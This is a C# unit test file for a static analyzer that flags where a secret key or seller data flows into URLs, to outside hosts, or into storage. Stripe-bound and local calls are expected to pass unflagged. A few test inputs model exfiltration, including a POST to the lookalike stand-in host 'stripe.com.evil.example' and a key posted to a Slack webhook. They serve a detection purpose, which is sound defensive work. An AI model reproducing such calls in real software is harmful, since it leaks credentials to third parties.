namespace ConnectGen.Analyzers.Tests.Flow.Sinks;

public sealed class UrlSinksTests
{
    private const string Parameters = "HttpClient http, HttpContent content, LinkGenerator links, Microsoft.AspNetCore.Components.NavigationManager navigation, Stripe.Checkout.SessionCreateOptions options, string host, HttpContext context";

    [Theory]
    [InlineData("new Uri(\"https://shop.example/done?key=\" + key);", "Url Text new Uri(...)")]
    [InlineData("new Uri($\"/done?key={key}\", UriKind.Relative);", "Url Text new Uri(...)")]
    [InlineData("new Uri(new Uri(\"https://shop.example\"), key);", "Url Text new Uri(...)")]
    [InlineData("new UriBuilder(\"https://shop.example\") { Query = \"key=\" + key };", "Url Text UriBuilder.Query")]
    [InlineData("var builder = new UriBuilder(); builder.Fragment = key;", "Url Text UriBuilder.Fragment")]
    [InlineData("Microsoft.AspNetCore.WebUtilities.QueryHelpers.AddQueryString(\"/done\", \"key\", key);", "Url Serialized QueryHelpers.AddQueryString(...)")]
    [InlineData("Microsoft.AspNetCore.WebUtilities.QueryHelpers.AddQueryString(\"/done\", new Dictionary<string, string?> { [\"key\"] = key });", "Url Serialized QueryHelpers.AddQueryString(...)")]
    [InlineData("QueryString.Create(\"key\", key);", "Url Serialized QueryString.Create(...)")]
    [InlineData("new QueryString().Add(\"key\", key);", "Url Serialized QueryString.Add(...)")]
    [InlineData("links.GetPathByName(\"done\", new { key });", "Url Serialized LinkGenerator.GetPathByName(...)")]
    [InlineData("links.GetPathByAction(\"Done\", \"Sellers\", new { key });", "Url Serialized LinkGenerator.GetPathByAction(...)")]
    [InlineData("navigation.NavigateTo($\"/done?key={key}\");", "Url Text NavigationManager.NavigateTo(...)")]
    [InlineData("Microsoft.AspNetCore.Components.NavigationManagerExtensions.GetUriWithQueryParameter(navigation, \"key\", key);", "Url Serialized NavigationManager.GetUriWithQueryParameter(...)")]
    [InlineData("options.SuccessUrl = \"https://shop.example/done?key=\" + key;", "Url Text SessionCreateOptions.SuccessUrl")]
    [InlineData("new Stripe.AccountLinkCreateOptions { ReturnUrl = key, RefreshUrl = key };", "Url Text AccountLinkCreateOptions.ReturnUrl\nUrl Text AccountLinkCreateOptions.RefreshUrl")]
    [InlineData("await http.GetAsync($\"https://api.shop.example/?key={key}\");", "Url Value HttpClient.GetAsync(...)")]
    [InlineData("await http.GetStringAsync(host + \"?key=\" + key);", "Url Value HttpClient.GetStringAsync(...)")]
    [InlineData("await http.GetFromJsonAsync<Seller>(\"sellers?key=\" + key);", "Url Value HttpClient.GetFromJsonAsync(...)")]
    [InlineData("new HttpRequestMessage(HttpMethod.Get, \"sellers?key=\" + key);", "Url Value new HttpRequestMessage(...)")]
    public void What_is_put_into_URLs_is_told(string statement, string expected) => SinksIn.Statements(statement, expected, Parameters);

    [Theory]
    [InlineData("await http.PostAsync(\"https://hooks.slack.com/services/a\", new StringContent(key));", "OtherHost Serialized HttpClient.PostAsync(...)")]
    [InlineData("await http.PostAsJsonAsync(\"https://api.shop.example/sellers\", seller);", "OtherHost Serialized HttpClient.PostAsJsonAsync(...)")]
    [InlineData("await http.PostAsJsonAsync($\"https://api.shop.example/{host}\", new { key });", "OtherHost Serialized HttpClient.PostAsJsonAsync(...)")]
    [InlineData("await http.PutAsJsonAsync(new Uri(\"https://api.shop.example/sellers\"), seller);", "OtherHost Serialized HttpClient.PutAsJsonAsync(...)")]
    [InlineData("const string url = \"https://api.shop.example/sellers\"; await http.PostAsJsonAsync(url, seller);", "OtherHost Serialized HttpClient.PostAsJsonAsync(...)")]
    [InlineData("new System.Net.Mail.MailMessage(\"a@b.example\", \"c@d.example\") { Body = key };", "OtherHost Text MailMessage.Body")]
    [InlineData("await http.PostAsJsonAsync(\"https://stripe.com.evil.example/a\", seller);", "OtherHost Serialized HttpClient.PostAsJsonAsync(...)")]
    public void What_goes_to_another_host_is_told(string statement, string expected) => SinksIn.Statements(statement, expected, Parameters);

    [Theory]
    [InlineData("new Uri(\"https://api.stripe.com/v1/\" + key);")]
    [InlineData("new Uri($\"https://connect.stripe.com/oauth/token?client_secret={key}\");")]
    [InlineData("await http.GetAsync(\"https://api.stripe.com/v1/charges?key=\" + key);")]
    [InlineData("await http.PostAsync(\"https://connect.stripe.com/oauth/token\", new FormUrlEncodedContent(new Dictionary<string, string> { [\"client_secret\"] = key }));")]
    [InlineData("await http.PostAsJsonAsync(\"sellers\", seller);")]
    [InlineData("await http.PostAsJsonAsync(host, seller);")]
    [InlineData("await http.PostAsJsonAsync(\"http://localhost:5000/sellers\", seller);")]
    [InlineData("http.DefaultRequestHeaders.Authorization = new(\"Bearer\", key);")]
    [InlineData("new HttpRequestMessage(HttpMethod.Post, \"sellers\") { Content = new StringContent(key) };")]
    [InlineData("Uri.EscapeDataString(key);")]
    [InlineData("System.Net.WebUtility.UrlEncode(key);")]
    [InlineData("Uri.TryCreate(key, UriKind.Absolute, out _);")]
    [InlineData("options.ClientReferenceId = key;")]
    [InlineData("Path.Combine(\"a\", key);")]
    public void What_is_no_URL_or_goes_to_Stripe_is_left_alone(string statement) => SinksIn.Statements(statement, "", Parameters);

    [Fact]
    public void Own_options_with_a_success_URL_are_left_alone() => SinksIn.Statements(
        "new Own.Options { SuccessUrl = key }; new Own.Uri(key); new Own.Navigation().NavigateTo(key);",
        "",
        others: "namespace Own { public class Options { public string? SuccessUrl { get; set; } } public class Uri(string uriString) { public string Text => uriString; } public class Navigation { public void NavigateTo(string uri) { } } }");

    [Theory]
    [InlineData("File.WriteAllText(\"key.txt\", key);", "Storage Text File.WriteAllText(...)")]
    [InlineData("await File.AppendAllTextAsync(\"key.txt\", key);", "Storage Text File.AppendAllTextAsync(...)")]
    [InlineData("File.WriteAllLines(\"key.txt\", new[] { key });", "Storage Texts File.WriteAllLines(...)")]
    [InlineData("await File.WriteAllBytesAsync(\"key.txt\", System.Text.Encoding.UTF8.GetBytes(key));", "Storage Serialized File.WriteAllBytesAsync(...)")]
    [InlineData("await cache.SetStringAsync(\"key\", key);", "Storage Serialized IDistributedCache.SetStringAsync(...)")]
    [InlineData("cache.Set(\"key\", System.Text.Encoding.UTF8.GetBytes(key), new());", "Storage Serialized IDistributedCache.Set(...)")]
    [InlineData("session.SetString(\"key\", key);", "Storage Text ISession.SetString(...)")]
    [InlineData("parameter.Value = key;", "Storage Value DbParameter.Value")]
    [InlineData("redis.StringSet(\"key\", key);", "Storage Text IDatabase.StringSet(...)")]
    [InlineData("Dapper.SqlMapper.Execute(\"update\", new { key });", "Storage Serialized SqlMapper.Execute(...)")]
    [InlineData("storage.SetItemAsync(\"key\", key);", "BrowserStorage Serialized ILocalStorageService.SetItemAsync(...)")]
    [InlineData("File.ReadAllText(key);", "")]
    [InlineData("File.WriteAllText(key, \"a\");", "")]
    [InlineData("cache.Get(key);", "")]
    [InlineData("session.GetString(key);", "")]
    [InlineData("parameter.ParameterName = key;", "")]
    [InlineData("redis.StringSet(key, \"1\");", "")]
    [InlineData("Dapper.SqlMapper.Query(\"select\", new { key });", "")]
    [InlineData("await browser.SetAsync(\"key\", key);", "")]
    [InlineData("memory.Set(\"key\", key);", "")]
    public void What_is_stored_is_told(string statement, string expected) => SinksIn.Statements(
        "await Task.Yield(); " + statement,
        expected,
        "Microsoft.Extensions.Caching.Distributed.IDistributedCache cache, ISession session, System.Data.Common.DbParameter parameter, StackExchange.Redis.IDatabase redis, Blazored.LocalStorage.ILocalStorageService storage, Microsoft.AspNetCore.Components.Server.ProtectedBrowserStorage.ProtectedLocalStorage browser, Own.Memory memory",
        """
        global using Microsoft.Extensions.Caching.Distributed;
        namespace StackExchange.Redis { public interface IDatabase { bool StringSet(string key, string value); } }
        namespace Dapper { public static class SqlMapper { public static int Execute(string sql, object param) => 0; public static int Query(string sql, object param) => 0; } }
        namespace Blazored.LocalStorage { public interface ILocalStorageService { void SetItemAsync<T>(string key, T data); } }
        namespace Own { public class Memory { public void Set(string name, string value) { } } }
        """);
}
